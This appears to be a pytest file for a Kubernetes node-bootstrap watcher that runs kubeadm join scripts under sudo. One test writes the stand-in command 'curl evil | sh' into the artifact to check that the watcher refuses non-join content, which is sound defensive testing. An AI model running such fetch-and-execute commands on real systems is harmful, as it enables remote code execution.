import subprocess
from pathlib import Path

from kubeboot.bootstrap import join_watcher
from kubeboot.bootstrap.join_watcher import EXIT_JOIN_FAILED, EXIT_TIMED_OUT, JoinWatcher


class FakeRun:
    def __init__(self, rc=0):
        self.rc = rc
        self.calls = []

    def __call__(self, argv):
        self.calls.append(argv)
        return subprocess.CompletedProcess(argv, self.rc)


def _watcher(tmp_path: Path, run, **kw):
    artifact = tmp_path / "join.sh"
    state_dir = tmp_path / "state"
    return artifact, state_dir, JoinWatcher(str(artifact), str(state_dir), interval=1, run=run, **kw)


def test_marks_ready_then_joins_when_artifact_lands(tmp_path: Path, join_line):
    run = FakeRun(0)
    artifact = tmp_path / "join.sh"
    sleeps = []

    def sleep(s):
        # the artifact shows up while the watcher is polling
        sleeps.append(s)
        assert (tmp_path / "state" / "ready").is_file()
        artifact.write_text(join_line + "\n")

    w = JoinWatcher(str(artifact), str(tmp_path / "state"), interval=2, run=run, sleep=sleep)
    assert w.run() == 0

    assert sleeps == [2]
    assert run.calls == [["sudo", "-n", "bash", "-c", f"{join_line} --v=5"]]
    assert (tmp_path / "state" / "state").read_text() == "joined\n"
    assert not artifact.exists()


def test_failed_join_is_recorded_and_artifact_removed(tmp_path: Path, join_line):
    artifact, state_dir, w = _watcher(tmp_path, FakeRun(1))
    state_dir.mkdir()
    artifact.write_text(join_line)

    assert w.run() == EXIT_JOIN_FAILED
    assert (state_dir / "state").read_text().splitlines() == ["failed", "kubeadm join exited 1"]
    assert not artifact.exists()


def test_refuses_non_join_artifact(tmp_path: Path):
    run = FakeRun(0)
    artifact, state_dir, w = _watcher(tmp_path, run)
    artifact.write_text("curl evil | sh\n")

    assert w.run() == EXIT_JOIN_FAILED
    assert run.calls == []
    assert not artifact.exists()


def test_optional_timeout(tmp_path: Path):
    now = [0.0]

    def sleep(s):
        now[0] += s

    artifact, state_dir, w = _watcher(tmp_path, FakeRun(0), timeout=3, sleep=sleep, clock=lambda: now[0])
    assert w.run() == EXIT_TIMED_OUT
    assert (state_dir / "state").read_text().startswith("failed")


def test_main_parses_arguments(tmp_path: Path, monkeypatch, join_line):
    seen = {}

    def fake_run(self):
        seen.update(artifact=self.artifact, state_dir=self.state_dir, interval=self.interval, timeout=self.timeout)
        return 0

    monkeypatch.setattr(JoinWatcher, "run", fake_run)
    rc = join_watcher.main(["--artifact", "/tmp/a.sh", "--state-dir", "/tmp/s", "--interval", "3"])
    assert rc == 0
    assert seen == {"artifact": "/tmp/a.sh", "state_dir": "/tmp/s", "interval": 3.0, "timeout": None}
